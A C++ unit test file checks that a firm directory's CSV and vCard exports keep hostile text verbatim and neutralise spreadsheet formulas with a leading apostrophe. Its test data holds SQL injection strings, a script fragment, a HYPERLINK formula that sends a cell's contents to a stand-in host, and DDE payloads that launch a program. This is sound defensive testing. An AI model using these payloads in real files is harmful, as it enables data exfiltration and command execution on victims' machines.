// Hostile texts of an edition in the exported files: what a spreadsheet or an
// address book reads back is the text as written, and no cell of the table
// can run as a formula.
#include "FirmListFiles.h"
#include "ReadBack.h"
#include "SaveFile.h"
#include "TestEnvironment.h"

#include <QJsonArray>
#include <QJsonObject>

#include <gtest/gtest.h>

namespace {

// Texts, and what the table's cell must read: the text itself, or with the
// apostrophe that keeps a spreadsheet from running it.
const QList<std::pair<QString, QString>>& cells()
{
    static const QList<std::pair<QString, QString>> all = {
        {"'; DROP TABLE Firms; --", "'; DROP TABLE Firms; --"},
        {"\" OR 1=1 --", "\" OR 1=1 --"},
        {"<a href=x>&amp;</td><script>", "<a href=x>&amp;</td><script>"},
        {"строка\r\nдругая; \"цитата\"", "строка\r\nдругая; \"цитата\""},
        {QString(100000, QChar(u'ж')), QString(100000, QChar(u'ж'))},
        {"=HYPERLINK(\"http://x.example/?\"&A1)", "'=HYPERLINK(\"http://x.example/?\"&A1)"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"+7 (3812) 12-34-56, +7 913 000-00-00", "+7 (3812) 12-34-56, +7 913 000-00-00"},
        {"-15", "-15"},
    };
    return all;
}

ExportFirm firmWith(int id, const QString& text)
{
    ExportFirm firm;
    firm.id = id;
    firm.name = text;
    firm.categories = {text};
    firm.phones = text;
    firm.web = text;
    firm.email = text;
    firm.bus = text;
    firm.minibus = text;
    firm.note = text;
    firm.addresses = {{900, text, text, text, {}, {}, {}, std::nullopt}};
    return firm;
}

std::vector<ExportFirm> firmsWithCells()
{
    std::vector<ExportFirm> firms;
    firms.reserve(std::size_t(cells().size()));
    for (qsizetype i = 0; i < cells().size(); ++i)
        firms.push_back(firmWith(int(i), cells()[i].first));
    return firms;
}

} // namespace

TEST(InjectedExports, TableCellsReadBackAsWrittenAndNoneRunsAsAFormula)
{
    TemporaryFolder folder;
    const QJsonArray rows = ReadBack("csv", WrittenFile(folder, "list.csv", FirmsCsv(firmsWithCells()))).toArray();
    ASSERT_EQ(rows.size(), cells().size() + 1);
    for (qsizetype i = 0; i < cells().size(); ++i) {
        const QJsonArray row = rows[i + 1].toArray();
        ASSERT_EQ(row.size(), 11) << i;
        for (const int column : {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10})
            EXPECT_EQ(row[column].toString().toStdString(), cells()[i].second.toStdString())
                << "firm " << i << ", column " << column;
    }
}

TEST(InjectedExports, AddressCardsGiveBackTheNamesAndNotes)
{
    TemporaryFolder folder;
    const QJsonArray cards =
        ReadBack("vcard", WrittenFile(folder, "list.vcf", FirmsVCard(firmsWithCells(), std::nullopt))).toArray();
    ASSERT_EQ(cards.size(), cells().size());
    for (qsizetype i = 0; i < cells().size(); ++i) {
        const QJsonObject card = cards[i].toObject();
        // A card writes a line break as its own "\n".
        const std::string text = QString(cells()[i].first).replace("\r\n", "\n").toStdString();
        EXPECT_EQ(card["FN"].toArray().first().toString().toStdString(), text) << i;
        EXPECT_EQ(card["NOTE"].toArray().first().toString().toStdString(), text) << i;
    }
}
